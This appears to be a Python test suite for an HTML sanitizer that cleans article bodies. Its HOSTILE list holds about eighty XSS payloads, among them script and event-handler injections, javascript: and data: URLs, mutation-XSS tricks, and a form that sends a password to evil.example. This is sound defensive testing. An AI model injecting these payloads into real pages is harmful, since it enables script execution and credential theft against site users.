"""The text of an article: what stays, what goes, that cleaning twice is cleaning once, that nothing hostile stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html

from app.content.bodies import CLASSES, LARGEST, clean_body, media_ids, pictures_without_words
from app.errors import Invalid

TAGS = frozenset(
    {
        *("p", "h2", "h3", "h4", "strong", "em", "u", "s", "a", "ul", "ol", "li", "blockquote", "br"),
        *("img", "figure", "figcaption", "table", "thead", "tbody", "tr", "th", "td"),
    }
)
ATTRIBUTES = frozenset({"href", "start", "src", "alt", "colspan", "rowspan", "class"})
SOURCE = re.compile(r"/content/media/[1-9][0-9]*")
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="/content/media/1" onerror="alert(1)">',
    '<img src="/content/media/1" style="position:fixed" srcset="//evil.example/x">',
    '<img src="/content/media/1/../../../sign-out">',
    '<img src="//evil.example/content/media/1">',
    '<img src="https://evil.example/content/media/1">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src='x' onerror\n=\n'alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https:evil">x</a>',
    '<a href="https://x.example/" onclick="alert(1)" target="_blank" rel="opener">x</a>',
    '<a href="https://x.example/"onmouseover="alert(1)">x</a>',
    '<a href="https://x.example/%22onclick=%22alert(1)" style="x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><foreignObject><body onload="alert(1)"></foreignObject></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p onclick="alert(1)" id="main" name="x" data-act="x" hx-get="/sign-out">x</p>',
    '<p class="gj-bar align-center gj-act">x</p>',
    '<div hx-post="/articles/1/throw-away" hx-trigger="load">x</div>',
    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus="alert(1)">',
    '<select autofocus onfocus="alert(1)"><option>x</select>',
    "<textarea></textarea><script>alert(1)</script>",
    '<video src=x onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)"></audio>',
    '<details open ontoggle="alert(1)">x</details>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<body onload="alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<img src="/content/media/1" alt="<script>alert(1)</script>">',
    '<img src="/content/media/1" alt="x&quot; onerror=&quot;alert(1)">',
    '<td background="javascript:alert(1)">x</td>',
    '<table background="javascript:alert(1)"><tr><td onclick="alert(1)">x</td></tr></table>',
    '<ol start="1; alert(1)"><li>x</li></ol>',
    '<td colspan="99999999">x</td>',
    "<p>\u202ealert\u202c</p><script\x20type='text/javascript'>alert(1)</script>",
)
PIECES = st.sampled_from(
    (
        *("<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<i>", "</i>", "<h1>", "</h1>", "<a href='/x'>", "<a>"),
        *("</a>", "<ul>", "<ol start=3>", "<li>", "</li>", "</ul>", "<table>", "<tr>", "<td colspan=2>", "</td>"),
        *("</table>", "<blockquote>", "</blockquote>", "<img src='/content/media/3' alt='a'>", "<img src=x>", "<br>"),
        *("<figure>", "<figcaption>", "</figure>", "<svg>", "<math>", "<style>", "<form>", "<select>", "<option>"),
        *("<p class='indent-2 x'>", "<script>", "</script>", "<!--", "-->", "&lt;", "&amp;", "&nbsp;", "<", ">", "&"),
        *("文字", " ", "\n", "x", '"', "'", "\u3000", "<span>", "</span>", "<pre>", "<center>", "</center>", "<del>"),
    )
)


def elements(body: str) -> list[html.HtmlElement]:
    """Return the elements of a text as a browser would read it."""
    return list(html.fragment_fromstring(body, create_parent="main").iterdescendants())


def assert_harmless(body: str) -> None:
    """Fail when anything but the allowed elements, attributes and addresses is there."""
    assert "<!--" not in body
    for one in elements(body):
        assert one.tag in TAGS, one.tag
        assert set(one.attrib) <= ATTRIBUTES, one.attrib
        assert set((one.get("class") or "").split()) <= CLASSES
        if one.tag == "img":
            assert SOURCE.fullmatch(one.get("src") or ""), one.attrib
        if "href" in one.attrib:
            assert re.match(r"https?://[\w.-]+|mailto:.+@|/(?![/\\])", one.get("href")), one.get("href")


def test_there_are_enough_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>前{}后</p>", "<table><tr><td>{}</td></tr></table>", "<ul><li>{}"])
def test_nothing_hostile_stays(text: str, around: str) -> None:
    cleaned = clean_body(around.format(text))
    assert_harmless(cleaned)
    assert clean_body(cleaned) == cleaned


@given(st.lists(PIECES, max_size=40).map("".join))
@settings(max_examples=400, deadline=None)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    cleaned = clean_body(text)
    assert clean_body(cleaned) == cleaned
    assert_harmless(cleaned)


@given(st.text(st.characters(codec=None), max_size=200))
@settings(max_examples=150, deadline=None)
def test_any_text_at_all_comes_out_harmless(text: str) -> None:
    assert_harmless(clean_body(text))


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("<h1>甲</h1><h5>乙</h5>", "<h2>甲</h2><h4>乙</h4>"),
        ("<b>粗</b><i>斜</i><strike>删</strike>", "<strong>粗</strong><em>斜</em><s>删</s>"),
        ("<div>一</div><div>二</div>", "<p>一</p><p>二</p>"),
        ("<div><p>一</p><div>二</div></div>", "<p>一</p><p>二</p>"),
        ('<h1 class="align-center x">题</h1>', '<h2 class="align-center">题</h2>'),
        ('<p class="indent-2 align-right">段</p>', '<p class="align-right indent-2">段</p>'),
        ('<a href="/x/y?a=1&b=2">内</a>', '<a href="/x/y?a=1&amp;b=2">内</a>'),
        ('<a href="mailto:a@b.cn">信</a>', '<a href="mailto:a@b.cn">信</a>'),
        ('<a name="x">锚</a>', "锚"),
        ("<p></p><p>字</p><p><b></b></p>", "<p>字</p>"),
        ('<ol start="4"><li>四</li></ol>', '<ol start="4"><li>四</li></ol>'),
        ("<script>x</script>字", "字"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
    ],
)
def test_what_stays_and_under_which_name(text: str, kept: str) -> None:
    assert clean_body(text) == kept


def test_a_text_that_is_clean_already_stays_byte_for_byte() -> None:
    body = (
        '<h2 class="align-center">题</h2><p class="indent-2">段<strong>粗</strong><br>行</p>'
        '<table><tbody><tr><th colspan="2"><p>头</p></th></tr></tbody></table>'
        '<figure><img src="/content/media/12" alt="图"><figcaption>注</figcaption></figure>'
    )
    assert clean_body(body) == body


def test_pictures_are_counted_once_and_those_without_words_are_known() -> None:
    body = clean_body(
        '<img src="/content/media/7" alt=""><img src="/content/media/8" alt="图"><img src="/content/media/7">'
    )
    assert media_ids(body) == [7, 8]
    assert pictures_without_words(body) == 2


def test_a_text_too_large_or_too_deep_is_refused_at_once() -> None:
    for text in ("文" * (LARGEST // 3 + 1), "<blockquote>" * 20_000, "<b>" * 20_000, "<div><ul>" * 5_000):
        with pytest.raises(Invalid) as refused:
            clean_body(text)
        assert refused.value.fields["body"]


def test_long_texts_of_many_paragraphs_and_rows_are_not_too_deep() -> None:
    assert clean_body("<p>一<p>二" * 3_000).count("<p>") == 6_000
    rows = "<tr><td>格</td></tr>" * 3_000
    assert clean_body(f"<table>{rows}</table>").count("<td>") == 3_000


@pytest.mark.parametrize(
    "caption", ["图 1 现场", "图 <strong>1</strong>", '<a href="https://a.example.cn/">来源</a>']
)
def test_a_figure_keeps_its_picture_and_its_caption(caption: str) -> None:
    """Saved and published as it was written; a caption that says nothing goes, its picture stays."""
    kept = f'<figure><img src="/content/media/3" alt="现场"><figcaption>{caption}</figcaption></figure>'
    assert clean_body(kept) == kept
    assert clean_body(kept.replace(caption, "")) == '<figure><img src="/content/media/3" alt="现场"></figure>'
